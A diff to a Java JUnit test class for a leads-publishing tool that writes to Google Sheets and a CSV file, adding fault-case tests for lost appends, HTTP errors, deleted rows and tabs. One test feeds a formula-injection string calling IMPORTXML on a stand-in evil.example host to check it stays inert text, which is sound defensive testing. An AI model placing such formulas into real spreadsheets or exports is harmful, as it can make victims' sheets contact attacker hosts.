@@ -10,6 +10,7 @@ import com.developmentleads.runtime.LeadsRuntime;
 import com.developmentleads.sandbox.RequestLog;
 import com.developmentleads.sandbox.Sandbox;
 import com.developmentleads.testing.ApiRequest;
+import com.developmentleads.testing.FaultCase;
 import com.developmentleads.testing.Workplace;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
@@ -30,10 +31,14 @@ import java.util.List;
 import java.util.Map;
 import java.util.function.UnaryOperator;
 import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 /** The sheet, written by the real Google client into a stand-in that keeps the API's rules, and leads.csv. */
 class PublishTest {
@@ -155,6 +160,8 @@ class PublishTest {
         return (int) morning.google().requests().entries("sheets").stream().filter(call -> !call.method().equals("GET")).count();
     }
 
+    @FaultCase(where = FaultCase.Where.SEARCH, fault = "Texts that are formulas",
+            then = "text in the sheet, quoted in the CSV file")
     @Test
     void texts_that_look_like_formulas_stay_texts_in_sheet_and_csv() throws IOException {
         String formula = "=IMPORTXML(\"http://evil.example\",\"//a\") teardown";
@@ -166,6 +173,9 @@ class PublishTest {
         assertThat(morning.daily().code()).isZero();
 
         assertThat(sheet().stream().map(row -> row.get(7)).toList()).contains(formula);
+        assertThat(calls(":append")).singleElement()
+                .satisfies(call -> assertThat(call.query()).contains("valueInputOption=RAW"));
+        assertThat(morning.rows("select snippet from property_scans")).extracting(row -> row.get("snippet")).contains(formula);
         List<String> lines = Files.readAllLines(csv());
         assertThat(lines.get(0)).isEqualTo("Date,Address,Price,Lot size,Year built,Label,Confidence,Snippet,Link,Source,"
                 + "Status,Model,Key");
@@ -175,6 +185,8 @@ class PublishTest {
                 "'@SUM(1)", "'-2+3");
     }
 
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person sorts, inserts and annotates rows",
+            then = "each lead is found by its key; the cells of the person stay")
     @Test
     void a_changed_lead_is_found_wherever_a_person_put_its_row_and_the_persons_cells_stay() {
         morning.withSheet().finds(homes(1, 4));
@@ -214,12 +226,15 @@ class PublishTest {
         assertThat(row(rows, "1 Example St, Newton, MA 02458").get(2)).isEqualTo("700001");
         assertThat(rows).anyMatch(row -> !row.isEmpty() && row.get(0).equals("call the broker"));
         assertThat(calls("batchUpdate")).hasSize(2);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(5);
     }
 
     private static List<String> row(List<List<String>> rows, String address) {
         return rows.stream().filter(row -> row.size() > 1 && row.get(1).equals(address)).findFirst().orElseThrow();
     }
 
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person deletes a row",
+            then = "it comes back only when its lead changes")
     @Test
     void a_row_that_a_person_deleted_comes_back_only_when_its_lead_changes() {
         morning.withSheet().finds(homes(1, 3));
@@ -234,6 +249,8 @@ class PublishTest {
         }
         assertThat(sheet()).hasSize(4);
         assertThat(row(sheet(), "2 Example St, Newton, MA 02458").get(2)).isEqualTo("500000");
+        assertThat(calls(":append")).hasSize(2);
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(3);
     }
 
     /** Google, with something between that may lose what it answers. */
@@ -263,6 +280,8 @@ class PublishTest {
         return request.path().contains(":append") ? change.apply(answer) : answer;
     }
 
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "The answer to an append is lost",
+            then = "one append; the next run finds the rows and adds none twice")
     @Test
     void when_the_answer_to_an_append_is_lost_the_next_run_finds_the_rows_and_adds_none_twice() {
         boolean[] lossy = {true};
@@ -285,6 +304,49 @@ class PublishTest {
         }
     }
 
+    static Stream<Arguments> answersToAnAppend() {
+        return Stream.of(
+                // the answer, the exit code
+                Arguments.of("500", Answer.json(500, "{\"error\":{\"code\":500,\"message\":\"Internal error\"}}"), 1),
+                Arguments.of("503", Answer.json(503, "{\"error\":{\"code\":503,\"message\":\"Busy\"}}"), 1),
+                Arguments.of("502 and a page", Answer.html(502), 1),
+                Arguments.of("429", Answer.json(429, "{\"error\":{\"code\":429,\"message\":\"Quota exceeded\"}}"), 1),
+                Arguments.of("400, no room for more rows", Answer.json(400,
+                        "{\"error\":{\"code\":400,\"message\":\"This action would increase the number of cells\"}}"), 4),
+                Arguments.of("401", Answer.json(401, "{\"error\":{\"code\":401,\"message\":\"Invalid credentials\"}}"), 4),
+                Arguments.of("a page", Answer.html(200), 1));
+    }
+
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "An append that was not done is answered with",
+            then = "not repeated blindly; the leads wait, and the next run writes them once")
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("answersToAnAppend")
+    void an_append_that_fails_leaves_the_leads_to_the_next_run(String name, Answer failure, int code) {
+        Answer[] answer = {failure};
+        morning.withSheet();
+        String target = morning.google().baseUrl();
+        HttpClient client = HttpClient.newHttpClient();
+        try (Loopback proxy = new Loopback(request -> answer[0] != null && request.path().contains(":append") ? answer[0]
+                : forward(client, target, request, same -> same))) {
+            morning.withSheetAt(proxy.url() + "/sheets/").finds(homes(1, 2));
+
+            Workplace.Result result = morning.daily();
+
+            assertThat(result.code()).isEqualTo(code);
+            assertThat(result.err()).contains("publish: ").doesNotContain("<").hasLineCount(1);
+            assertThat(proxy.requests().stream().filter(request -> request.path().contains(":append"))).hasSize(1);
+            assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
+            assertThat(morning.rows("select * from deliveries")).isEmpty();
+
+            answer[0] = null;
+            morning.daily();
+            assertThat(sheet()).hasSize(3);
+            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
+        }
+    }
+
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "403, the sheet is not shared",
+            then = "asked once; the leads wait")
     @Test
     void a_sheet_that_may_not_be_written_leaves_the_leads_to_the_next_run() {
         Answer[] refusal = {Answer.json(HttpURLConnection.HTTP_FORBIDDEN,
@@ -310,6 +372,8 @@ class PublishTest {
         }
     }
 
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "404, the spreadsheet is gone",
+            then = "asked once; the leads wait and are in the CSV file")
     @Test
     void a_spreadsheet_that_is_not_there_is_told_and_asked_for_once() {
         morning.withSheet().set("sheets.spreadsheet-id", "gone-for-good").finds(homes(1, 1));
@@ -320,11 +384,43 @@ class PublishTest {
         assertThat(result.err()).contains("HTTP 404, Requested entity was not found.", "check that the spreadsheet is there");
         assertThat(morning.google().requests().entries("sheets")).hasSize(1);
         assertThat(csv()).exists();
+        assertThat(morning.row("select * from runs")).containsEntry("state", "partial");
+        assertThat(morning.rows("select * from deliveries")).isEmpty();
         morning.set("sheets.spreadsheet-id", Sandbox.SPREADSHEET);
         morning.daily();
         assertThat(sheet()).hasSize(2);
     }
 
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "A person deletes the tab",
+            then = "told; no other is made; the leads wait until it is there again, or an empty one")
+    @Test
+    void a_tab_that_a_person_deleted_is_missed_and_not_made_again() {
+        morning.withSheet().finds(homes(1, 2));
+        assertThat(morning.daily().code()).isZero();
+        ObjectNode before = document();
+        ObjectNode without = document();
+        ArrayNode tabs = (ArrayNode) without.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs");
+        tabs.removeIf(tab -> tab.path("title").asText().equals("Leads"));
+        Workplace.write(morning.sheetFile(), without.toPrettyString());
+        morning.finds(homes(1, 3));
+        int writes = writes();
+
+        Workplace.Result result = morning.daily();
+
+        assertThat(result.code()).isEqualTo(1);
+        assertThat(result.err()).contains("the tab Leads with the leads is gone", "an empty tab of that name").hasLineCount(1);
+        assertThat(writes()).isEqualTo(writes);
+        assertThat(morning.row("select * from runs order by id desc limit 1")).containsEntry("state", "partial");
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
+
+        Workplace.write(morning.sheetFile(), before.toPrettyString());
+        morning.daily();
+        assertThat(sheet()).hasSize(4);
+        assertThat(sheet().stream().map(row -> row.get(12))).doesNotHaveDuplicates();
+        assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(3);
+    }
+
+    @FaultCase(where = FaultCase.Where.SHEET, fault = "429 for reads", then = "repeated; the leads are written once")
     @Test
     void a_busy_google_is_asked_again_for_what_only_reads() {
         int[] busy = {2};
@@ -340,6 +436,8 @@ class PublishTest {
 
             assertThat(result.err()).isEmpty();
             assertThat(sheet()).hasSize(3);
+            assertThat(calls(":append")).hasSize(1);
+            assertThat(morning.rows("select 1 from deliveries where kind = 'sheet'")).hasSize(2);
         }
     }
 
@@ -372,6 +470,8 @@ class PublishTest {
         assertThat(result.out()).contains("2 leads in Newton, MA", "All leads are in " + csv());
     }
 
+    @FaultCase(where = FaultCase.Where.MACHINE, fault = "leads.csv cannot be replaced",
+            then = "told; whole at the next run")
     @Test
     void the_file_is_replaced_whole_or_stays_as_it_was() throws IOException {
         morning.finds(homes(1, 2));
@@ -387,6 +487,7 @@ class PublishTest {
 
         assertThat(result.code()).isEqualTo(1);
         assertThat(result.err()).contains("publish");
+        assertThat(morning.row("select * from runs order by id desc limit 1")).containsEntry("state", "partial");
         Files.delete(inTheWay.resolve("x"));
         Files.delete(inTheWay);
         morning.daily();
